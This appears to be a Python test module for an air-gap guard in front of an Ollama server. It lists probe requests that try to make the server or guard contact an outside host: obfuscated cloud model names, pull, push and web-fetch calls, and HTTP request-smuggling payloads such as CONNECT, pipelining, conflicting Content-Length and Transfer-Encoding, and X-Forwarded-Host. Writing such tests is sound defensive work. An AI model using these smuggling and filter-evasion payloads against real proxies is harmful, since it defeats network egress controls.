"""Ways through the door: requests that would have Ollama, or the door itself, contact another machine.

Without a guard the same requests go to Ollama by a door that lets them pass (``--network open``).
"""

from __future__ import annotations

import json
from collections.abc import Mapping

from airgap.battery.way import Way

_WORD = "WORD.decode()"
_NOT_PASSED = {
    "both": "it is no request to a model server: the door answers it, and asks nothing of anyone"
}
_TWO_NAMES = {
    "both": "the report has the model that the request names first; the answer names the other one"
}
_UNREAD = {"both": "what can be read in two ways is refused unread"}
_NOT_FOLLOWED = {"both": "the door follows no redirection, and passes none on"}


def _model(
    name: str,
    model: str,
    path: str = "/api/chat",
    more: str = "",
    silent: Mapping[str, str] | None = None,
) -> Way:
    """A request for text that names a model of a cloud; WORD in it is replaced."""
    prompt = (
        '"prompt": "hello"'
        if path in ("/api/generate", "/v1/completions")
        else '"messages": [{"role": "user", "content": "hello"}]'
    )
    body = f'{{"model": {json.dumps(model)}, "stream": false, {prompt}{more}}}'
    code = f"ask_door('POST', BASE + {path!r}, {body!r}.replace('WORD', {_WORD}).encode())"
    return Way(f"cloud-{name}", "the door: names of a cloud", code, "{word}", silent=silent or {})


def _request(
    name: str, path: str, body: str, named: str = "{word}", *, silent: bool = False
) -> Way:
    """Any other request; WORD and PLACE in its path and body are replaced."""
    change = f".replace('WORD', {_WORD}).replace('PLACE', f'{{OUT}}:{{PORT}}')"
    code = f"ask_door('POST', BASE + {path!r}{change}, {body!r}{change}.encode())"
    return Way(
        f"door-{name}", "the door: requests", code, named, silent=_NOT_PASSED if silent else {}
    )


def _raw(
    name: str, code: str, named: str = "{word}", *, silent: Mapping[str, str] | None = None
) -> Way:
    head = f"W, HOST = {_WORD}, DOOR_HOST\nPULL = json.dumps({{'model': W}})\n"
    return Way(f"door-{name}", "the door: smuggling", head + code, named, silent=silent or {})


_LOAD = """
body = {"model": WORD.decode() + ":cloud", "messages": []}
ask_door("POST", BASE + "/api/chat", body)
"""
_ESCAPED = """
text = json.dumps({"model": WORD.decode() + ":cloud", "messages": [{"role": "user", "content": "hello"}]})
for word in ("model", "cloud"): text = text.replace(word, f"{chr(92)}u{ord(word[0]):04x}{word[1:]}")
ask_door("POST", BASE + "/api/chat", text.encode())
"""

NAMES = (
    _model("tag", "WORD:cloud"),
    _model("size", "WORD:120b-cloud"),
    _model("space", "WORD: cloud"),
    _model("tab", "WORD:\tcloud"),
    _model("newline", "WORD:\ncloud"),
    _model("no-break-space", "WORD:\u00a0cloud"),
    _model("wide-space", "WORD:\u3000cloud"),
    _model("space-behind", "WORD:cloud \n"),
    _model("space-before", " \tWORD:cloud"),
    _model("case", "WORD:CLOUD"),
    _model("mixed-case", "WORD:120B-Cloud"),
    _model("host", "ollama.com/library/WORD:cloud"),
    _model("scheme", "https://ollama.com/library/WORD:cloud"),
    _model("generate", "WORD:cloud", "/api/generate"),
    _model("openai", "WORD:cloud", "/v1/chat/completions"),
    _model("openai-text", "WORD:cloud", "/v1/completions"),
    _model("anthropic", "WORD:cloud", "/v1/messages", ', "max_tokens": 9'),
    _model("responses", "WORD:cloud", "/v1/responses", ', "input": "hello"'),
    _model("embed", "WORD:cloud", "/api/embed", ', "input": "hello"'),
    _model("show", "WORD:cloud", "/api/show"),
    _model("field-case", "small", more=', "MODEL": "WORD:cloud"', silent=_TWO_NAMES),
    _model("field-twice", "small", more=', "model": "WORD:cloud"', silent=_UNREAD),
    Way("cloud-escaped", "the door: names of a cloud", _ESCAPED, "{word}"),
    Way("cloud-load", "the door: names of a cloud", _LOAD, "{word}"),
)  # fmt: skip

REQUESTS = (
    _request("pull", "/api/pull", '{"model": "WORD"}'),
    _request("pull-host", "/api/pull", '{"model": "PLACE/library/WORD", "insecure": true}'),
    _request("pull-name", "/api/pull", '{"name": "WORD"}'),
    _request("pull-escaped-path", "/api/%70ull", '{"model": "WORD"}'),
    _request("pull-double-slash", "/api//pull", '{"model": "WORD"}', silent=True),
    _request("pull-dots", "/api/tags/../pull", '{"model": "WORD"}', silent=True),
    _request("pull-query", "/api/pull?x=/api/chat", '{"model": "WORD"}'),
    _request("push", "/api/push", '{"model": "WORD"}'),
    _request("create", "/api/create", '{"model": "x", "from": "WORD:cloud"}'),
    _request("create-far", "/api/create", '{"model": "x", "from": "PLACE/library/WORD"}'),
    _request("create-remote", "/api/create", '{"model": "WORD", "from": "small", "remote_host": "http://PLACE/WORD"}'),
    _request("copy", "/api/copy", '{"source": "WORD:cloud", "destination": "x"}'),
    _request("web-search", "/api/web_search", '{"query": "WORD"}', "/api/web_search"),
    _request("web-fetch", "/api/web_fetch", '{"url": "http://PLACE/WORD"}', "/api/web_fetch"),
    _request("sign-in", "/api/signin", '{"name": "WORD"}'),
    _request("experimental", "/api/experimental/web_search", '{"query": "WORD"}', "/api/experimental/web_search"),
)  # fmt: skip

SMUGGLED = (
    _raw("absolute", "say_to_door(f'GET http://{OUT}:{PORT}/{W} HTTP/1.1\\r\\nHost: {OUT}:{PORT}\\r\\n"
         "Connection: close\\r\\n\\r\\n'.encode())", silent=_NOT_PASSED),
    _raw("absolute-pull", "say_to_door(f'POST http://{HOST}{BASE}/api/pull HTTP/1.1\\r\\nHost: {HOST}\\r\\n"
         "Content-Length: {len(PULL)}\\r\\nConnection: close\\r\\n\\r\\n{PULL}'.encode())"),
    _raw("connect", "say_to_door(f'CONNECT {OUT}:{PORT} HTTP/1.1\\r\\nHost: {OUT}:{PORT}\\r\\n\\r\\n{W}'.encode())",
         silent=_NOT_PASSED),
    _raw("pipelined", "inner = f'POST {BASE}/api/pull HTTP/1.1\\r\\nHost: {HOST}\\r\\nContent-Length: {len(PULL)}\\r\\n"
         "Connection: close\\r\\n\\r\\n{PULL}'\n"
         "say_to_door(f'GET {BASE}/api/version HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n{inner}'.encode())"),
    _raw("two-lengths", "inner = f'POST /api/pull HTTP/1.1\\r\\nHost: localhost\\r\\nContent-Length: {len(PULL)}\\r\\n"
         "Connection: close\\r\\n\\r\\n{PULL}'\n"
         "say_to_door(f'POST {BASE}/api/show HTTP/1.1\\r\\nHost: {HOST}\\r\\nContent-Length: {len(inner) + 5}\\r\\n"
         "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}'.encode())", silent=_NOT_PASSED),
    _raw("chunked", "ask_door('POST', BASE + '/api/pull', f'{len(PULL):x}\\r\\n{PULL}\\r\\n0\\r\\n\\r\\n'.encode(),"
         " (('Transfer-Encoding', 'chunked'),))"),
    _raw("host", "ask_door('POST', BASE + '/api/pull', {'model': W}, (('X-Forwarded-Host', f'{OUT}:{PORT}'),))"),
    _raw("redirect", "subprocess.run(['curl', '-sLm', '3', f'http://{HOST}{BASE}/api/tags?redirect={OUT}:{PORT}/{W}'])",
         "{out}:{port}", silent=_NOT_FOLLOWED),
)  # fmt: skip

WAYS = (*NAMES, *REQUESTS, *SMUGGLED)
